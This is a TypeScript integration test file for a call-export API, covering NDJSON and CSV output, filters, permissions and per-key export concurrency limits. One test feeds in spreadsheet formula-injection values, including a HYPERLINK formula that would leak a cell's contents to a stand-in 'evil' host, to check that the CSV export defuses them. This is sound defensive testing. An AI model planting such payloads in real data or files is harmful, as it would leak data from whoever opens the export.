import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../src/app.js';
import { createTokenVerifier } from '../../src/auth/token.js';
import { createDb } from '../../src/db/knex.js';
import { MemoryRateLimitStore } from '../../src/http/rate-limit-store.js';
import { checkedHttp } from '../support/contract.js';
import type { World } from '../support/builders.js';
import { createTestContext, type TestContext } from '../support/context.js';

let ctx: TestContext;
let w: World;
beforeAll(async () => {
  ctx = await createTestContext();
  w = await ctx.build.world();
});
afterAll(() => ctx.close());

const FIELDS = [
  { name: 'urgency', type: 'enum', values: ['emergency', 'routine'] },
  { name: 'units', type: 'number' },
];

async function agentWithFields(world: World): Promise<string> {
  const agentId = await ctx.build.freshAgent(world.orgId);
  await ctx.http
    .patch(`/v1/agents/${agentId}`)
    .set('X-API-Key', world.key)
    .send({ analysis_fields: FIELDS })
    .expect(200);
  return agentId;
}

/** `count` calls straight into the table (one statement), each a second older than the one before. */
async function seedCalls(world: World, agentId: string, count: number, base = Date.parse('2026-06-01T12:00:00Z')) {
  const rows = Array.from({ length: count }, (_, i) => ({
    organization_id: world.orgId,
    agent_id: agentId,
    call_id: `bulk-${i}`,
    customer_name: `Caller ${i}`,
    duration: i % 100,
    done: i % 2 === 0,
    transcript: JSON.stringify([{ role: 'user', text: `Hallo ${i} ${'x'.repeat(200)}` }]),
    extracted_data: JSON.stringify(i % 3 === 0 ? { urgency: 'emergency', units: i } : { urgency: 'routine' }),
    created_at: new Date(base - i * 1000),
    updated_at: new Date(base - i * 1000),
  }));
  for (let i = 0; i < rows.length; i += 1000) await ctx.db('calls').insert(rows.slice(i, i + 1000));
}

const exportPath = (agentId: string) => `/v1/agents/${agentId}/calls/export`;

/** Collects a streamed body as text (supertest leaves NDJSON unparsed otherwise). */
type Streamed = {
  setEncoding(encoding: BufferEncoding): unknown;
  on(event: string, listener: (chunk: string) => void): unknown;
};
function asText(res: Streamed, cb: (error: Error | null, body: string) => void): void {
  let data = '';
  res.setEncoding('utf8');
  res.on('data', (chunk: string) => (data += chunk));
  res.on('end', () => cb(null, data));
}

function download(path: string, key = w.key) {
  return ctx.http.get(path).set('X-API-Key', key).buffer(true).parse(asText);
}

/** RFC 4180 reader for the checks: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('GET /v1/agents/{agentId}/calls/export', () => {
  it('streams every matching call as NDJSON, each line the list item, across several batches', async () => {
    const agentId = await agentWithFields(w);
    await seedCalls(w, agentId, 2500);
    const res = await download(exportPath(agentId)).expect(200);
    expect(res.headers['content-type']).toBe('application/x-ndjson');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="calls-.*\.ndjson"$/);
    const lines = (res.body as string).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(2500);
    const calls = lines.map((l) => JSON.parse(l) as { id: string; call_id: string });
    expect(new Set(calls.map((c) => c.id)).size).toBe(2500);
    expect(calls.map((c) => c.call_id).slice(0, 3)).toEqual(['bulk-0', 'bulk-1', 'bulk-2']);
    expect(calls[2499]!.call_id).toBe('bulk-2499');
    const page = await ctx.http.get(`/v1/agents/${agentId}/calls?limit=2`).set('X-API-Key', w.key).expect(200);
    expect(calls.slice(0, 2)).toEqual(page.body.data);
  });

  it("takes the list's filters, extracted ones included, with the list's total", async () => {
    const agentId = await agentWithFields(w);
    await seedCalls(w, agentId, 300);
    const query = 'extracted.urgency=emergency&done=true&extracted.units[gte]=30';
    const res = await download(`${exportPath(agentId)}?${query}`).expect(200);
    const lines = (res.body as string).trim().split('\n');
    const list = await ctx.http.get(`/v1/agents/${agentId}/calls?${query}`).set('X-API-Key', w.key).expect(200);
    expect(lines).toHaveLength(list.body.pagination.total);
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) expect(JSON.parse(line).extracted_data.urgency).toBe('emergency');
    const none = await download(`${exportPath(agentId)}?from=2000-01-01&to=2000-01-02`).expect(200);
    expect(none.body).toBe('');
  });

  it('writes RFC 4180 CSV: a header row, quoting, extracted.<name> columns, the transcript as one JSON cell', async () => {
    const agentId = await agentWithFields(w);
    const transcript = [{ role: 'user', text: 'Er sagte: "Hilfe",\nbitte' }];
    ctx.clock.set('2026-07-01T10:00:00Z');
    await ctx.http
      .post(`/v1/agents/${agentId}/calls`)
      .set('X-API-Key', w.key)
      .send({
        call_id: 'csv-1',
        duration: 12.5,
        customer_name: 'Müller, "Hans"',
        transcript,
        extracted_data: { urgency: 'routine', units: 2 },
      })
      .expect(201);
    const res = await download(`${exportPath(agentId)}?format=csv`).expect(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="calls-.*\.csv"$/);
    expect(res.body as string).toContain('"Müller, ""Hans"""');
    const [header, row, ...rest] = parseCsv(res.body as string);
    expect(rest).toEqual([]);
    expect(header!.slice(-3)).toEqual(['extracted.urgency', 'extracted.units', 'transcript']);
    const record = Object.fromEntries(header!.map((name, i) => [name, row![i]]));
    expect(record).toMatchObject({
      call_id: 'csv-1',
      customer_name: 'Müller, "Hans"',
      duration: '12.5',
      done: 'false',
      phone_number: '',
      'extracted.urgency': 'routine',
      'extracted.units': '2',
      created_at: '2026-07-01T10:00:00.000Z',
    });
    expect(JSON.parse(record.transcript!)).toEqual(transcript);
  });

  it("writes a caller's formula as inert text and the phone number as text", async () => {
    const agentId = await agentWithFields(w);
    await ctx.http
      .post(`/v1/agents/${agentId}/calls`)
      .set('X-API-Key', w.key)
      .send({
        call_id: 'csv-formula',
        duration: 3,
        phone_number: '+49 30 1234567',
        customer_name: '=HYPERLINK("http://evil/?"&A1)',
        customer_request: '@SUM(A1:A2)',
        call_summary: '-2+3',
        transcript: [{ role: 'user', text: '=1+1' }],
        extracted_data: { urgency: 'routine', units: -2 },
      })
      .expect(201);
    const res = await download(`${exportPath(agentId)}?format=csv`).expect(200);
    expect(res.body as string).toContain(`"'=HYPERLINK(""http://evil/?""&A1)",'@SUM(A1:A2),'+49301234567,3,`);
    const [header, row] = parseCsv(res.body as string);
    const record = Object.fromEntries(header!.map((name, i) => [name, row![i]]));
    expect(record).toMatchObject({
      customer_name: `'=HYPERLINK("http://evil/?"&A1)`,
      customer_request: "'@SUM(A1:A2)",
      call_summary: "'-2+3",
      phone_number: "'+49301234567",
      'extracted.units': '-2',
    });
    expect(JSON.parse(record.transcript!)).toEqual([{ role: 'user', text: '=1+1' }]);
  });

  it('reads calls of any size in batches bounded by bytes: every call once, in order, as the list has them', async () => {
    const agentId = await agentWithFields(w);
    const base = Date.parse('2026-06-01T12:00:00Z');
    // Large and small calls mixed, one group of them created in the same microsecond.
    const rows = Array.from({ length: 24 }, (_, i) => ({
      organization_id: w.orgId,
      agent_id: agentId,
      call_id: `mixed-${i}`,
      duration: i,
      done: false,
      transcript: JSON.stringify([{ role: 'user', text: `${i} ${'ab'.repeat(i % 3 === 0 ? 150_000 : 10)}` }]),
      extracted_data: '{}',
      created_at: new Date(base - (i < 6 ? 0 : i) * 1000),
      updated_at: new Date(base),
    }));
    await ctx.db('calls').insert(rows);
    const ndjson = await download(exportPath(agentId)).expect(200);
    const lines = (ndjson.body as string).trim().split('\n');
    const list = await ctx.http.get(`/v1/agents/${agentId}/calls?limit=100`).set('X-API-Key', w.key).expect(200);
    expect(lines.map((line) => JSON.parse(line))).toEqual(list.body.data);
    const csv = parseCsv((await download(`${exportPath(agentId)}?format=csv`).expect(200)).body as string);
    expect(csv).toHaveLength(25);
    const byCallId = new Map(rows.map((r) => [r.call_id, r.transcript]));
    for (const row of csv.slice(1)) expect(row.at(-1)).toBe(byCallId.get(row[1]!));
  });

  it('refuses a bad format and unknown outcome filters with 400, and checks access like the list', async () => {
    const agentId = await agentWithFields(w);
    const res = await ctx.http
      .get(`${exportPath(agentId)}?format=xlsx&extracted.colour=red`)
      .set('X-API-Key', w.key)
      .expect(400);
    const fields = (res.body.error.details as { field: string }[]).map((d) => d.field).sort();
    expect(fields).toEqual(['extracted.colour', 'format']);
    const noRead = await ctx.build.apiKey(w.orgId, w.userId, { permissions: ['calls:write'] });
    await ctx.http.get(exportPath(agentId)).set('X-API-Key', noRead.key).expect(403);
    const other = await ctx.build.world();
    await ctx.http.get(exportPath(agentId)).set('X-API-Key', other.key).expect(404);
  });

  it('runs at most two exports at once per key: a third is 429 until one has finished', async () => {
    const world = await ctx.build.world();
    const agentId = await agentWithFields(world);
    await seedCalls(world, agentId, 10);
    // Hold the calls table so that both exports wait in their first batch.
    const trx = await ctx.db.transaction();
    await trx.raw('LOCK TABLE calls IN ACCESS EXCLUSIVE MODE');
    const first = download(exportPath(agentId), world.key).then((r) => r);
    const second = download(exportPath(agentId), world.key).then((r) => r);
    // A third request meanwhile must not wait for the lock: the limit is checked before any query.
    for (let i = 0; ; i++) {
      const { rows } = await ctx.db.raw(
        `SELECT count(*)::int AS n FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query ILIKE '%from "calls"%' AND datname = current_database()`,
      );
      if (rows[0].n >= 2) break;
      if (i > 500) throw new Error('the exports never started');
      await new Promise((resolve) => setImmediate(resolve));
    }
    const third = await ctx.http.get(exportPath(agentId)).set('X-API-Key', world.key).expect(429);
    expect(third.body.error.code).toBe('RATE_LIMITED');
    expect(third.headers['retry-after']).toBeDefined();
    await trx.commit();
    expect((await first).status).toBe(200);
    expect((await second).status).toBe(200);
    await download(exportPath(agentId), world.key).expect(200);
  });

  it('counts the two slots across instances; a dead instance holds its slot only until the lease runs out', async () => {
    const world = await ctx.build.world();
    const agentId = await agentWithFields(world);
    await seedCalls(world, agentId, 10);
    // A second instance: its own app, pool and export service on the same database.
    const otherDb = createDb(ctx.config.DATABASE_URL!, 2);
    try {
      const { app } = createApp({
        config: { ...ctx.config, READ_CACHE_ENABLED: false },
        db: otherDb,
        databaseUrl: ctx.config.DATABASE_URL!,
        logger: ctx.logger,
        clock: ctx.clock,
        rateLimitStore: new MemoryRateLimitStore(),
        verifyToken: createTokenVerifier(ctx.config),
        queue: ctx.queue,
      });
      const other = checkedHttp(app, ctx.contract);
      const trx = await ctx.db.transaction();
      await trx.raw('LOCK TABLE calls IN ACCESS EXCLUSIVE MODE');
      const first = download(exportPath(agentId), world.key).then((r) => r);
      const second = other
        .get(exportPath(agentId))
        .set('X-API-Key', world.key)
        .buffer(true)
        .parse(asText)
        .then((r) => r);
      for (let i = 0; ; i++) {
        const { rows } = await ctx.db.raw(
          `SELECT count(*)::int AS n FROM pg_stat_activity WHERE wait_event_type = 'Lock' AND query ILIKE '%from "calls"%' AND datname = current_database()`,
        );
        if (rows[0].n >= 2) break;
        if (i > 500) throw new Error('the exports never started');
        await new Promise((resolve) => setTimeout(resolve, 5));
      }
      for (const instance of [ctx.http, other]) {
        const res = await instance.get(exportPath(agentId)).set('X-API-Key', world.key).expect(429);
        expect(res.body.error.code).toBe('RATE_LIMITED');
      }
      const held = await ctx
        .db('call_export_slots')
        .where({ caller: `key:${world.keyId}` })
        .count({ n: '*' })
        .first();
      expect(Number(held!.n)).toBe(2);
      await trx.commit();
      expect((await first).status).toBe(200);
      expect((await second).status).toBe(200);
      await other.get(exportPath(agentId)).set('X-API-Key', world.key).expect(200);
    } finally {
      await otherDb.destroy();
    }

    // Two slots left behind by an instance that died: held while their leases run, free after.
    const slots = [0, 1].map((slot) => ({ caller: `key:${world.keyId}`, slot, holder: randomUUID() }));
    await ctx
      .db('call_export_slots')
      .insert(slots.map((s) => ({ ...s, lease_until: ctx.db.raw("now() + interval '1 hour'") })));
    await ctx.http.get(exportPath(agentId)).set('X-API-Key', world.key).expect(429);
    await ctx
      .db('call_export_slots')
      .where({ caller: `key:${world.keyId}` })
      .update({ lease_until: ctx.db.raw("now() - interval '1 second'") });
    await download(exportPath(agentId), world.key).expect(200);
  });

  it("shares a key's slots with its replacement after a rotation", async () => {
    const world = await ctx.build.world();
    const agentId = await agentWithFields(world);
    await seedCalls(world, agentId, 3);
    const held = [0, 1].map((slot) => ({ caller: `key:${world.keyId}`, slot, holder: randomUUID() }));
    await ctx
      .db('call_export_slots')
      .insert(held.map((s) => ({ ...s, lease_until: ctx.db.raw("now() + interval '1 hour'") })));
    const { body: fresh } = await ctx.http
      .post(`/v1/api-keys/${world.keyId}/rotate`)
      .set('Authorization', `Bearer ${world.token}`)
      .expect(201);
    const refused = await ctx.http.get(exportPath(agentId)).set('X-API-Key', fresh.key).expect(429);
    expect(refused.body.error.code).toBe('RATE_LIMITED');
    await ctx
      .db('call_export_slots')
      .where({ caller: `key:${world.keyId}` })
      .delete();
    await download(exportPath(agentId), fresh.key).expect(200);
  });

  it('frees its slot when the client goes away mid-stream', async () => {
    const world = await ctx.build.world();
    const agentId = await agentWithFields(world);
    await seedCalls(world, agentId, 3000);
    const url = new URL(`${ctx.baseUrl}${exportPath(agentId)}?format=csv`);
    const abandon = () =>
      new Promise<void>((resolve, reject) => {
        const req = httpRequest(url, { headers: { 'X-API-Key': world.key } }, (res) => {
          expect(res.statusCode).toBe(200);
          res.once('data', () => {
            req.destroy();
            resolve();
          });
        });
        req.on('error', (error) => (req.destroyed ? resolve() : reject(error)));
        req.end();
      });
    await abandon();
    await abandon();
    for (let i = 0; ; i++) {
      const res = await ctx.http
        .get(`${exportPath(agentId)}?from=2000-01-01&to=2000-01-02`)
        .set('X-API-Key', world.key);
      if (res.status === 200) break;
      expect(res.status).toBe(429);
      if (i > 200) throw new Error('the slots were never freed');
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
  });
});
